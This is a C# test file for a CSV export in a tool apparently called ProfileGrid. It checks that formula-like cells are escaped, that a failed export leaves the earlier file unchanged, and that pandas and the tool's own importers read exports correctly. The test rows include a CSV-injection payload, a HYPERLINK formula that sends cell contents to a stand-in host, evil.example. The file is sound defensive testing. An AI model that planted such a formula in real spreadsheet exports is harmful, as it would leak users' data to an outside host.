using System.Text;
using ProfileGrid.Cli.BulkImport;
using ProfileGrid.Cli.Export;
using ProfileGrid.Recommendations.Import;
using ProfileGrid.Tests;

namespace ProfileGrid.Cli.Tests;

/// <summary>The CSV export's cells as a spreadsheet, pandas and profilegrid's own imports read them.</summary>
public sealed class CsvExportTests : IDisposable
{
    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("profilegrid-csv-");

    public void Dispose() => _folder.Delete(recursive: true);

    private sealed record Row(string UserId, string Label, decimal Revenue, long Delta);

    private static readonly ExportColumn<Row>[] Columns =
    [
        new("user_id", ColumnType.Text, "", r => r.UserId),
        new("label", ColumnType.Text, "", r => r.Label),
        new("since", ColumnType.Text, "", _ => "2024-05-01T10:00:00Z"),
        new("revenue", ColumnType.Decimal, "", r => r.Revenue),
        new("delta", ColumnType.Integer, "", r => r.Delta),
    ];

    // Each id a spreadsheet would run as a formula (OWASP's list), then ids it would not.
    private static readonly Row[] Rows =
    [
        new("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "=1+2", -12.5m, -3),
        new("+31612345678", "@SUM(A1:A9)", 0m, 0),
        new("-42", "-vip", 19.99m, 7),
        new("@admin", "+tier", -0.01m, -1),
        new("\tindented", "\rline", 1m, 1),
        new("plain", "a, \"b\"", 2m, 2),
        new("'already quoted", "x'=y", 3m, 3),
    ];

    [Fact]
    public async Task An_export_that_fails_midway_leaves_the_previous_file_as_it_was()
    {
        // probe72: a silo killed during an export left --out holding a header and 1,002 of 2,000 rows, which pandas read
        // without complaint.
        var path = Path.Combine(_folder.FullName, "profiles.csv");
        await File.WriteAllTextAsync(path, "user_id\nyesterday\n");
        try
        {
            using var file = new ReplacedWhenDone(path);
            await using (var writer = await TableWriter<Row>.CreateAsync(ExportFormat.Csv, file.Partial, Columns))
            {
                await writer.WriteAsync(Rows[5]);
                throw new IOException("the grid went away");
            }
        }
        catch (IOException)
        {
        }

        Assert.Equal("user_id\nyesterday\n", await File.ReadAllTextAsync(path));
        Assert.Equal(["profiles.csv"], _folder.GetFiles().Select(f => f.Name));

        using (var file = new ReplacedWhenDone(path))
        {
            await using (var writer = await TableWriter<Row>.CreateAsync(ExportFormat.Csv, file.Partial, Columns))
            {
                await writer.WriteAsync(Rows[5]);
            }

            file.Done();
        }

        Assert.StartsWith("user_id,label,since,revenue,delta\nplain,", await File.ReadAllTextAsync(path));
        Assert.Equal(["profiles.csv"], _folder.GetFiles().Select(f => f.Name));
    }

    private async Task<string> ExportAsync()
    {
        var path = Path.Combine(_folder.FullName, "export.csv");
        await using (var writer = await TableWriter<Row>.CreateAsync(ExportFormat.Csv, path, Columns))
        {
            foreach (var row in Rows)
            {
                await writer.WriteAsync(row);
            }
        }

        return path;
    }

    [Fact]
    public async Task A_text_cell_a_spreadsheet_would_run_as_a_formula_is_written_after_a_quote_and_numbers_stay_numbers()
    {
        var lines = File.ReadAllText(await ExportAsync()).Split('\n');

        Assert.Equal("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",\"'=1+2\",2024-05-01T10:00:00Z,-12.5,-3", lines[1]);
        Assert.Equal("\"'+31612345678\",\"'@SUM(A1:A9)\",2024-05-01T10:00:00Z,0,0", lines[2]);
        Assert.Equal("\"'-42\",\"'-vip\",2024-05-01T10:00:00Z,19.99,7", lines[3]);
        Assert.Equal("\"'@admin\",\"'+tier\",2024-05-01T10:00:00Z,-0.01,-1", lines[4]);
        Assert.Equal("\"'\tindented\",\"'\rline\",2024-05-01T10:00:00Z,1,1", lines[5]);
        Assert.Equal("plain,\"a, \"\"b\"\"\",2024-05-01T10:00:00Z,2,2", lines[6]);
        Assert.Equal("'already quoted,x'=y,2024-05-01T10:00:00Z,3,3", lines[7]);
    }

    [Fact]
    public async Task Pandas_reads_the_guarded_cells_with_their_quote_and_the_negative_numbers_as_numbers()
    {
        var path = await ExportAsync();
        var read = ReferencePython.Run(
            """
            import json, sys
            import pandas as pd
            frame = pd.read_csv(sys.argv[1] + "/export.csv", dtype={"user_id": str, "label": str}, keep_default_na=False)
            print(json.dumps({"users": list(frame.user_id), "labels": list(frame.label), "revenue": [float(v) for v in frame.revenue], "delta": [int(v) for v in frame.delta]}))
            """,
            new Dictionary<string, string> { ["export.csv"] = File.ReadAllText(path) },
            "python3-pandas");

        Assert.Equal(Rows.Select(r => CsvFormulaGuard.Guard(r.UserId)), read.GetProperty("users").EnumerateArray().Select(u => u.GetString()));
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", read.GetProperty("users")[0].GetString());
        Assert.Equal(Rows.Select(r => CsvFormulaGuard.Guard(r.Label)), read.GetProperty("labels").EnumerateArray().Select(u => u.GetString()));
        Assert.Equal(Rows.Select(r => (double)r.Revenue), read.GetProperty("revenue").EnumerateArray().Select(v => v.GetDouble()));
        Assert.Equal(Rows.Select(r => r.Delta), read.GetProperty("delta").EnumerateArray().Select(v => v.GetInt64()));
    }

    [Fact]
    public async Task Profilegrids_own_csv_imports_read_an_export_back_without_the_guard()
    {
        var path = await ExportAsync();

        // profilegrid import / evaluate (--columns user=user_id,item=label): the users are the ones exported.
        var interactions = InteractionImporter.Import(path, new ImportOptions { Columns = new ColumnMapping("user_id", "label", Timestamp: "since") });
        Assert.Empty(interactions.Rejects);
        // Trimmed as every field of an import is: the tab and the carriage return of row 5 go with the guard's quote.
        Assert.Equal(
            Rows.Select(r => (r.UserId.Trim(), r.Label.Trim())).Order(),
            interactions.Users.SelectMany(u => u.Items.Select(i => (u.UserKey, i.ItemId))).Order());

        // profilegrid import-events with a mapping that names the export's columns.
        var mapping = Path.Combine(_folder.FullName, "export-mapping.json");
        File.WriteAllText(mapping, """{ "format": "csv", "type": "product_view", "source": "web", "fields": { "user": "user_id", "product": "label", "time": "since" } }""");
        var plan = new ImportPlanner(ImportMapping.Load(mapping).Mapping).Plan(path);
        Assert.Empty(plan.Rejects);
        Assert.Equal(Rows.Select(r => r.UserId.Trim()), plan.Events.Select(e => e.Event.UserId));
        Assert.Equal(Rows.Select(r => r.Label.Trim()), plan.Events.Select(e => e.Event.Product.ProductId));
    }
}
